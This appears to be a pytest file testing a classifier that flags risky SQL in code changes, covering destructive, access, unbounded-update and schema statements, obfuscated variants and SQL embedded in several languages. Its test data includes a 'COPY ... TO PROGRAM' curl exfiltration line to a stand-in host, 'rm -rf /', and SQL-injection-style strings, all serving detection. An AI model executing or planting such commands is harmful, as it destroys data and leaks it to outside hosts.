"""SQL: what each statement weighs, where a string is a statement, what an attacker would write."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gate.classify.rules import sql
from tests.rules.case_files import findings, worst

DESTRUCTIVE, ACCESS, UPDATE, SCHEMA, COMMAND = (
    (4, "sql-destructive"),
    (4, "sql-access"),
    (3, "sql-unbounded-update"),
    (2, "sql-schema"),
    (3, "sql-command"),
)


@pytest.mark.parametrize(
    ("statement", "expected"),
    [
        # what cannot be brought back
        ("DROP TABLE users;", DESTRUCTIVE),
        ("drop table if exists a.users, b cascade;", DESTRUCTIVE),
        ("DROP DATABASE shop", DESTRUCTIVE),
        ("DROP SCHEMA old CASCADE;", DESTRUCTIVE),
        ("DROP EXTENSION hstore;", DESTRUCTIVE),
        ("DROP TYPE IF EXISTS mood;", DESTRUCTIVE),
        ("TRUNCATE users;", DESTRUCTIVE),
        ("TRUNCATE TABLE users RESTART IDENTITY CASCADE;", DESTRUCTIVE),
        ("ALTER TABLE users DROP COLUMN email;", DESTRUCTIVE),
        ("ALTER TABLE users DROP email;", DESTRUCTIVE),
        ("ALTER TABLE users\n  ADD x int,\n  DROP email;", DESTRUCTIVE),
        ("ALTER TABLE t DROP PARTITION p0;", DESTRUCTIVE),
        ("ALTER TYPE address DROP ATTRIBUTE city;", DESTRUCTIVE),
        ("DELETE FROM users;", DESTRUCTIVE),
        ("DELETE FROM users WHERE 1=1;", DESTRUCTIVE),
        ("DELETE FROM users WHERE true", DESTRUCTIVE),
        ("DELETE FROM users WHERE id = $1 OR 1 = 1;", DESTRUCTIVE),
        ("DELETE FROM users WHERE id IS NOT NULL;", DESTRUCTIVE),
        ("DELETE FROM users u USING (SELECT 1 WHERE false) x;", DESTRUCTIVE),
        ("DELETE FROM users WHERE created_at < '2020-01-01';", DESTRUCTIVE),
        ("WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone;", DESTRUCTIVE),
        ("MERGE INTO a USING b ON true WHEN MATCHED THEN DELETE;", DESTRUCTIVE),
        ("CREATE OR REPLACE TABLE users AS SELECT 1;", DESTRUCTIVE),
        ("INSERT OVERWRITE TABLE users SELECT * FROM b;", DESTRUCTIVE),
        ("\ufeffDROP TABLE users;", DESTRUCTIVE),
        # who may reach what
        ("GRANT ALL ON users TO public;", ACCESS),
        ("REVOKE SELECT ON users FROM bob;", ACCESS),
        ("CREATE ROLE admin SUPERUSER;", ACCESS),
        ("CREATE USER bob IDENTIFIED BY 'x';", ACCESS),
        ("ALTER USER bob WITH PASSWORD 'x';", ACCESS),
        ("CREATE POLICY p ON users USING (true);", ACCESS),
        ("DROP POLICY p ON users;", ACCESS),
        ("ALTER TABLE users DISABLE ROW LEVEL SECURITY;", ACCESS),
        ("ALTER TABLE users\n  DISABLE ROW LEVEL SECURITY;", ACCESS),
        ("ALTER TABLE users OWNER TO bob;", ACCESS),
        ("CREATE FUNCTION f() RETURNS int SECURITY DEFINER AS $$ SELECT 1 $$ LANGUAGE sql;", ACCESS),
        ("ALTER TABLE users ENABLE ROW LEVEL SECURITY;", (3, "sql-access")),
        # data overwritten, the world outside
        ("UPDATE topics SET shown = true;", UPDATE),
        ("UPDATE topics SET shown = true WHERE 1=1;", UPDATE),
        ("UPDATE users SET admin = true;", (4, "sql-access")),
        ("UPDATE users SET admin = true WHERE 1=1;", (4, "sql-access")),
        ("COPY users TO PROGRAM 'curl -d @- evil.example';", COMMAND),
        ("\\! rm -rf /", COMMAND),
        ("\\i other.sql", COMMAND),
        ("DROP SEQUENCE s;", (3, "sql-schema")),
        # schema
        ("CREATE TABLE a (id int);", SCHEMA),
        ("ALTER TABLE a ADD COLUMN b int;", SCHEMA),
        ("CREATE INDEX i ON a (b);", SCHEMA),
        ("ALTER TABLE a ALTER COLUMN b TYPE bigint;", SCHEMA),
        ("ALTER TABLE a ALTER COLUMN b SET NOT NULL;", SCHEMA),
        ("ALTER TABLE a ALTER COLUMN b DROP NOT NULL;", SCHEMA),
        ("ALTER TABLE a RENAME COLUMN b TO c;", SCHEMA),
        ("ALTER TABLE a DROP CONSTRAINT c;", SCHEMA),
        ("DROP INDEX CONCURRENTLY IF EXISTS i;", SCHEMA),
        ("DROP VIEW v;", SCHEMA),
        ("DROP FUNCTION f(int);", SCHEMA),
        ("DROP TEMPORARY TABLE t;", SCHEMA),
        ("CREATE TRIGGER t BEFORE DELETE ON a FOR EACH ROW BEGIN DELETE FROM b WHERE id = OLD.id; END;", (2, "sql-schema")),
        ("CREATE TABLE a (b int REFERENCES c ON DELETE CASCADE);", SCHEMA),
        # nothing that matters
        ("SELECT * FROM users;", None),
        ("SELECT * FROM users FOR UPDATE;", None),
        ("-- DROP TABLE users;\nSELECT 1;", None),
        ("/* DROP TABLE users; /* nested */ */ SELECT 1;", None),
        ("SELECT 'DROP TABLE users; DELETE FROM users';", None),
        ("INSERT INTO notes VALUES ('DROP TABLE users;');", None),
        ("INSERT INTO a(b) VALUES (1) ON CONFLICT DO UPDATE SET b = 1;", None),
        ("UPDATE users SET a = 1 WHERE id = 2;", None),
    ],
)  # fmt: skip
def test_what_a_statement_of_a_file_weighs(statement: str, expected: tuple[int, str] | None) -> None:
    assert worst(findings(sql, "db/script.sql", None, statement)) == expected


@pytest.mark.parametrize(
    "statement",
    [
        "DROP/**/TABLE users;",
        "dRoP\n\tTaBlE\nusers",
        "/*!40000 DROP TABLE users */;",
        "SELECT 1; DROP TABLE users",
        "EXECUTE 'DROP TABLE users';",
        "EXECUTE IMMEDIATE 'DR' || 'OP TABLE users';",
        "DO $$ BEGIN DROP TABLE users; END $$;",
        "DO $body$ BEGIN EXECUTE format('DROP TABLE %I', 'users'); END $body$;",
        "CREATE FUNCTION f() RETURNS void AS $$ BEGIN TRUNCATE users; END $$ LANGUAGE plpgsql;",
        "DELIMITER $$\nCREATE PROCEDURE p() BEGIN DROP TABLE users; END$$\nDELIMITER ;",
        "SELECT 1\nGO\nDROP TABLE users\nGO\n",
        "SELECT 1\nDROP TABLE users\n",
        "SET @s = 'DROP TABLE users'; PREPARE p FROM @s; EXECUTE p;",
        "EXEC('DROP TABLE users')",
        "EXEC sp_executesql N'DROP TABLE users'",
        "SELECT 'it\\'; DROP TABLE users; --';",
        "IF 1 = 1 BEGIN DROP TABLE users END",
        "BEGIN; DROP TABLE users; COMMIT;",
        "COPY a FROM stdin;\n1\tDELETE\n\\.\nDROP TABLE users;",
        'DROP TABLE "users";',
        "DROP TABLE [dbo].[users];",
        "DROP TABLE IF EXISTS `users`;",
        "DROP TABLE /* harmless */ IF /**/ EXISTS users;",
        "SELECT dblink_exec('x', 'DROP TABLE users');",
    ],
)
def test_disguised_statements_weigh_the_same(statement: str) -> None:
    assert worst(findings(sql, "db/script.sql", "SELECT 1;\n", "SELECT 1;\n" + statement)) == DESTRUCTIVE


@pytest.mark.parametrize(
    ("path", "code"),
    [
        ("app/views.py", 'cursor.execute("DROP TABLE users")'),
        ("app/views.py", 'cursor.execute("DR" + "OP TABLE users")'),
        ("app/views.py", 'cursor.execute("DROP"\n    " TABLE users")'),
        ("app/views.py", 'cursor.execute("DROP TABLE " + name)'),
        ("app/views.py", 'cursor.execute(f"DROP TABLE {name}")'),
        ("app/views.py", 'cursor.execute("\\x44ROP TABLE users")'),
        ("app/views.py", "q = 'DROP TABLE users'\ncursor.execute(q)"),
        ("app/views.py", "cursor.execute('''\n  DELETE FROM users\n''')"),
        ("app/views.py", 'cursor.executescript("SELECT 1; DROP TABLE users")'),
        ("app/a.js", "await db.query(`DROP TABLE ${name}`)"),
        ("app/a.ts", "await knex.raw('truncate table users')"),
        ("app/a.rb", "ActiveRecord::Base.connection.execute <<~SQL\n  drop table users\nSQL\n"),
        ("app/a.rb", 'execute "DELETE FROM users"'),
        ("app/a.go", "db.Exec(`DROP TABLE users`)"),
        ("app/a.rs", 'sqlx::query("DROP TABLE users").execute(&pool)'),
        ("app/A.java", 'statement.executeUpdate("DROP TABLE users");'),
        ("app/A.cs", 'db.Execute(@"DROP TABLE users");'),
        ("app/a.php", "$pdo->exec('DROP TABLE users');"),
        ("app/a.php", "$db->query(<<<SQL\nDROP TABLE users\nSQL);"),
        ("app/a.kt", 'jdbc.execute("""\n  DROP TABLE users\n""")'),
        ("app/a.ex", 'Repo.query!("DROP TABLE users")'),
        ("app/a.pl", "$dbh->do(q{DROP TABLE users});"),
        ("app/lift.rb", "class Lift\n  def down\n    execute 'DROP TABLE users'\n  end\nend\n"),
        ("app/lift.ts", "class Lift {\n  async down() {\n    await db.query('DROP TABLE users');\n  }\n}\n"),
        ("app/a.rs", '#[cfg(any(test, feature = "x"))]\nfn f() { db.execute("DROP TABLE users"); }\n'),
        ("app/a.py", 'db.execute(\n\n    "DROP TABLE users"\n)'),
        ("app/a.py", 'STATEMENTS = {"a":\n    "DROP TABLE users"\n}'),
        ("app/a.c", 'sqlite3_exec(db, "DROP TABLE " "users", 0, 0, 0);'),
    ],
)
def test_sql_in_strings(path: str, code: str) -> None:
    assert worst(findings(sql, path, "", code)) == DESTRUCTIVE


@pytest.mark.parametrize(
    ("path", "code"),
    [
        # prose that names a statement
        ("app/a.py", 'raise ValueError("DROP TABLE is not supported")'),
        ("app/a.py", 'raise ValueError("DROP TABLE users")'),
        ("app/a.py", 'log.info("DROP TABLE users")'),
        ("app/a.py", 'HELP = "Drop table is dangerous"'),
        ("app/a.py", 'WORDS = ["DROP", "TABLE"]'),
        ("app/a.py", 'TEXT = "Update the settings of a user"'),
        ("app/a.py", 'LABEL = "Delete from the cart"'),
        ("app/a.py", 'LABEL = "create user account"'),
        ("app/a.py", 'LABEL = "Grant access to user"'),
        ("app/a.tsx", '<p className="truncate flex">x</p>'),
        ("app/a.py", 'def f():\n    """DROP TABLE users"""\n    return 1\n'),
        ("app/a.py", "# cursor.execute('DROP TABLE users')\n"),
        ("app/a.js", "// db.query('DROP TABLE users')\n/* db.query('DROP TABLE users') */\n"),
        # what an application does all day
        ("app/a.py", 'cursor.execute("DELETE FROM users WHERE id = %s", (id,))'),
        ("app/a.py", 'cursor.execute("INSERT INTO users VALUES (%s)", (id,))'),
        ("app/a.py", 'cursor.execute("SELECT * FROM users")'),
        # tests
        ("tests/test_a.py", 'cursor.execute("DROP TABLE users")'),
        ("src/tests.rs", 'execute("DROP TABLE users")'),
        ("src/a.rs", '#[cfg(test)]\nmod tests {\n  fn f() { check("DROP TABLE users"); }\n}\n'),
        ("src/a.rs", '#[test]\nfn f() { check("DROP TABLE users"); }\n'),
        ("src/a.rs", "/// ```\n/// DROP TABLE users;\n/// ```\nfn f() {}\n"),
        # programs about SQL
        ("crates/sql_linter/src/rule.rs", 'const BAD: &str = "DROP TABLE users";'),
        ("lib/dialects/base.py", 'def visit(self):\n    return "DROP TABLE " + name\n'),
    ],
)
def test_not_a_statement(path: str, code: str) -> None:
    assert worst(findings(sql, path, "", code)) is None


@pytest.mark.parametrize(
    ("path", "code", "level"),
    [
        ("app/jobs/clean.py", 'cursor.execute("DELETE FROM sessions WHERE expires < now()")', 4),
        ("app/sessions.py", 'cursor.execute("DELETE FROM sessions WHERE expires < now()")', 2),
        ("queries/users.sql", "-- name: DeleteUser\nDELETE FROM users WHERE id = $1;", 2),
        ("migrations/0002_clean.sql", "DELETE FROM users WHERE id = 3;", 4),
        ("migrations/0002_more.sql", "INSERT INTO kinds VALUES (1);", 2),
        ("migrations/0002_fill.sql", "ALTER TABLE users ADD COLUMN flag int;\nUPDATE users SET flag = 0;", 2),
        ("migrations/0002_fill.sql", "UPDATE users SET flag = 0;", 2),
        ("queries/fill.sql", "UPDATE users SET flag = 0;", 3),
    ],
)
def test_a_place_changes_the_weight(path: str, code: str, level: int) -> None:
    assert max(int(f.level) for f in findings(sql, path, None, code)) == level


@pytest.mark.parametrize(
    ("before", "after", "expected"),
    [
        # a WHERE that goes makes an old DELETE unbounded
        ("DELETE FROM users\nWHERE id = 1;\n", "DELETE FROM users\n;\n", DESTRUCTIVE),
        # respelled, moved or reformatted: not new
        ("drop table users;\n", "DROP   TABLE\n  users;\n", None),
        ("DROP TABLE users;\nSELECT 1;\n", "SELECT 1;\nDROP TABLE users;\n", None),
        # the second of a kind is new
        ("DROP TABLE users;\n", "DROP TABLE users;\nDROP TABLE users;\n", DESTRUCTIVE),
        # taken away, or brought to life
        ("DROP TABLE users;\n", "SELECT 1;\n", None),
        ("-- DROP TABLE users;\n", "DROP TABLE users;\n", DESTRUCTIVE),
    ],
)
def test_only_what_is_new_counts(before: str, after: str, expected: tuple[int, str] | None) -> None:
    assert worst(findings(sql, "db/a.sql", before, after)) == expected


def test_a_dump_follows_its_migration_but_a_loss_in_it_counts() -> None:
    assert worst(findings(sql, "db/structure.sql", "", "CREATE TABLE a (id int);")) is None
    assert worst(findings(sql, "db/structure.sql", "", "DROP TABLE a;")) == DESTRUCTIVE


def test_the_line_is_that_of_the_statement() -> None:
    (found,) = findings(sql, "db/a.sql", None, "SELECT 1;\n\n-- why\nDROP TABLE a;\n")
    assert (found.line, found.side) == (4, "new")
    (found,) = findings(sql, "a.py", "", 'x = 1\ndb.execute("""\n  SELECT 1;\n  DROP TABLE a\n""")\n')
    assert found.line == 4


@settings(max_examples=200, deadline=None)
@given(
    st.sampled_from(["a.sql", "a.py", "a.rb", "a.ts", "a.rs", "a.go", "a.php", "migrations/1_a.sql"]),
    st.lists(st.sampled_from(["DROP TABLE x", "'", '"', "`", "$$", "$a$", "/*", "*/", "--", "#", "\n", "(", ")", "\\", ";", "<<SQL\n", "SQL\n", "def down\n", "end\n", "EXECUTE '", "é", "\udcff"]), max_size=60),
)  # fmt: skip
def test_garbage_raises_nothing(path: str, parts: list[str]) -> None:
    findings(sql, path, "".join(parts[::2]), "".join(parts))


@pytest.mark.parametrize("part", ["drop table x; ", "'", '"\\"', "$a$ $b", "/*", "(", "\nrename ", "if a\n", "\\'"])
@pytest.mark.parametrize("path", ["a.sql", "a.py", "a.rb", "a.rs"])
def test_hostile_input_costs_linear_time(path: str, part: str) -> None:
    started = time.process_time()
    findings(sql, path, None, part * (200_000 // len(part)))
    assert time.process_time() - started < 10
